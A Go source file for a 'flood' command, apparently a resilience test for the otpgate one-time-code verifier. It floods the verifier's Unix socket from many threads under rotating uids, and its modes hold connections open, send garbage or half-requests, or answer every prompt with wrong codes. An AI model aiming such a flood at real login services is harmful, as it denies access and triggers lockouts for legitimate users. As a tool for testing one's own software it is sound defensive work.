// Command flood is what somebody runs who wants others' logins to fail: a
// local user, a person's own program, or a web server that was taken over, at
// the socket of the verifier as fast as it can, under as many uids as it has.
//
// flood SOCKET WAY FIRST-UID UIDS THREADS CONFIG USER...
package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"runtime"
	"strconv"
	"time"

	"golang.org/x/sys/unix"

	"github.com/otpgate/otpgate/internal/wire"
)

// flood is what one thread does.
type flood struct {
	address      *unix.SockaddrUnix
	config       string
	users        []string
	first, count int
	next         int
	held         []int // connections that stay open
}

// ways are what may be done with a connection. The result says whether it stays open.
var ways = map[string]func(f *flood, fd int) (stays bool){
	// Goes at once, so that the next one comes.
	"close": func(*flood, int) bool { return false },
	// Says nothing, half of what it wants, or garbage.
	"silent":  func(*flood, int) bool { return true },
	"half":    func(f *flood, fd int) bool { return send(fd, f.start()[:20]) },
	"garbage": func(_ *flood, fd int) bool { _ = send(fd, []byte("GET / HTTP/1.1\r\n\r\n")); return false },
	// Asks for somebody, and never answers.
	"open": func(f *flood, fd int) bool { return send(fd, f.start()) },
	// Asks for somebody, and goes before the answer.
	"leave": func(f *flood, fd int) bool { _ = send(fd, f.start()); return false },
	// Asks for somebody, and guesses.
	"guess": func(f *flood, fd int) bool { f.guess(fd); return false },
}

// mostHeld is for how many connections each thread has descriptors.
const mostHeld = 700

func main() {
	threads, err := strconv.Atoi(os.Args[5])
	if err != nil {
		panic(err)
	}
	first, err := strconv.Atoi(os.Args[3])
	if err != nil {
		panic(err)
	}
	count, err := strconv.Atoi(os.Args[4])
	if err != nil {
		panic(err)
	}
	way := ways[os.Args[2]]
	for range threads {
		f := &flood{address: &unix.SockaddrUnix{Name: os.Args[1]}, config: os.Args[6], users: os.Args[7:], first: first, count: count}
		go f.run(way)
	}
	fmt.Println("floods")
	_, _ = io.Copy(io.Discard, os.Stdin) // ends with who started it
}

func (f *flood) run(way func(*flood, int) bool) {
	// The kernel tells the other end of the ids that the connecting thread has.
	runtime.LockOSThread()
	for {
		uid := f.first + f.next%f.count
		f.next++
		become(0)
		become(uid)
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			panic(err)
		}
		// A full queue is tried again at once, which is quicker than to wait for it.
		if err := unix.Connect(fd, f.address); err == nil && way(f, fd) {
			f.hold(fd)
			continue
		}
		_ = unix.Close(fd)
	}
}

// become changes the thread's own uid alone.
func become(uid int) {
	if _, _, errno := unix.RawSyscall(unix.SYS_SETRESUID, ^uintptr(0), uintptr(uid), ^uintptr(0)); errno != 0 {
		panic(errno)
	}
}

func (f *flood) hold(fd int) {
	f.held = append(f.held, fd)
	if len(f.held) > mostHeld {
		_ = unix.Close(f.held[0])
		f.held = f.held[1:]
	}
}

func (f *flood) start() []byte {
	var frame frame
	user := f.users[f.next%len(f.users)]
	if err := wire.WriteStart(&frame, wire.Start{User: user, Service: "flood", Protocol: "http", RemoteHost: "192.0.2.1", Config: f.config}); err != nil {
		panic(err)
	}
	return frame
}

type frame []byte

func (f *frame) Write(p []byte) (int, error) { *f = append(*f, p...); return len(p), nil }

func send(fd int, data []byte) bool {
	n, err := unix.Write(fd, data)
	return err == nil && n == len(data)
}

// reader reads a descriptor that is somebody else's to close.
type reader int

func (r reader) Read(p []byte) (int, error) {
	n, err := unix.Read(int(r), p)
	if n == 0 && err == nil {
		err = io.EOF
	}
	return max(0, n), err
}

// guess gives wrong codes to all questions.
func (f *flood) guess(fd int) {
	patience := unix.NsecToTimeval(int64(5 * time.Second))
	if unix.SetNonblock(fd, false) != nil || unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &patience) != nil || !send(fd, f.start()) {
		return
	}
	in := reader(fd)
	var ready [1]byte
	if _, err := io.ReadFull(in, ready[:]); err != nil {
		return
	}
	for {
		var header [4]byte
		if _, err := io.ReadFull(in, header[:]); err != nil || wire.Type(header[0]) == wire.TypeVerdict {
			return
		}
		payload := make([]byte, binary.BigEndian.Uint32(header[:])&0xffffff)
		if _, err := io.ReadFull(in, payload); err != nil {
			return
		}
		if style := wire.Style(payload[0]); style == wire.Info || style == wire.Failure {
			continue
		}
		if !send(fd, append([]byte{byte(wire.TypeReply), 0, 0, 9, byte(wire.Answered)}, "00000000"...)) {
			return
		}
	}
}
